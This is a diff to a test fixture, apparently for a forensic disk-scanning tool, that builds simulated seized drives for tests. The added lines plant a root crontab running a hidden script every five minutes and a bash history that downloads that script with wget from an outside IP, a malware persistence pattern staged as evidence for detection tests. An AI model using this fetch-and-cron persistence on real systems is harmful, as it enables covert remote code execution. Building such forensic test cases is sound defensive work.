@@ -28,6 +28,8 @@ SHARED_PURSE = "Z104859673021"
 SEGWIT = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # BIP-173 test vector
 MONERO = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
 JID = "cosma2k@jabber.example.org"
+CRON_LINE = "*/5 * * * * /root/.x/upd.sh >/dev/null 2>&1"
+CRON_COMMAND = "/root/.x/upd.sh >/dev/null 2>&1"
 
 
 def utc(text: str) -> int:
@@ -131,6 +133,12 @@ def build(workdir: Path) -> OperatorCase:
                               b"2011-03-01 10:00:02 status half-installed tor:amd64 0.2.1.30-1\n"
                               b"2011-03-01 10:00:05 upgrade openssl:amd64 0.9.8o-4 0.9.8o-4squeeze1\n", t_a),
     }
+    a["/etc/passwd"] = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
+                        b"op:x:1000:1000:,,,:/home/op:/bin/bash\n", utc("2011-03-01T09:00:00"))
+    a["/var/spool/cron/crontabs/root"] = (f"# m h dom mon dow command\n{CRON_LINE}\n".encode(),
+                                          utc("2011-03-02T13:00:00"))
+    a["/root/.bash_history"] = (f"#{utc('2011-03-16T03:15:00')}\nwget http://203.0.113.66/upd.sh -O /root/.x/upd.sh\n"
+                                f"#{utc('2011-03-16T03:16:00')}\ncrontab -e\n".encode(), utc("2011-03-16T03:20:00"))
     if pgp:
         a["/home/op/pubkey.asc"] = (pgp[0], utc("2011-03-04T12:00:00"))
     b = {
@@ -147,6 +155,7 @@ def build(workdir: Path) -> OperatorCase:
             b"2011-03-18 12:00:03 1pQxyz-0001Ab-Cd == z@example.com R=dnslookup T=remote_smtp defer (-44) "
             b"H=mx.example.com [203.0.113.5]: SMTP error from remote mail server after RCPT TO:<z@example.com>: "
             b"451 Try later\n", t_b),
+        "/var/spool/cron/crontabs/root": (f"{CRON_LINE}\n".encode(), utc("2011-03-07T13:00:00")),
         "/var/log/yum.log": (b"Mar 02 10:00:00 Installed: tor-0.2.1.30-1.el5.x86_64\n"
                              b"Mar 02 10:05:00 Erased: sendmail\n", t_b),
     }
@@ -176,3 +185,22 @@ def _ext4_keeping_times(tree: Path, dest: Path, size_mib: int = 16) -> None:
                       "-E", f"hash_seed={imaging.FIXED_UUID},root_owner=0:0", "-d", staged, dest],
                      env=imaging._e2_env())
     imaging._pin_ext_ctimes(dest)  # mke2fs stamps ctimes with the wall clock
+
+
+_SCANNED: dict[str, tuple[OperatorCase, Path]] = {}
+
+
+def scanned(root: Path) -> tuple[OperatorCase, Path]:
+    """The two-drive case built and scanned (with the report) once per test process."""
+    from tests.conftest import run_seized
+
+    key = str(root)
+    if key not in _SCANNED:
+        case = build(root / "work")
+        out = root / "case"
+        proc = run_seized("scan", *(d.image for d in case.drives), "-o", out, "--workers", "1",
+                          "--case-name", "Operator test", "--examiner", "T. Examiner")
+        if proc.returncode != 0:
+            raise AssertionError(f"seized scan exited {proc.returncode}:\n{proc.stderr[-4000:]}")
+        _SCANNED[key] = (case, out)
+    return _SCANNED[key]
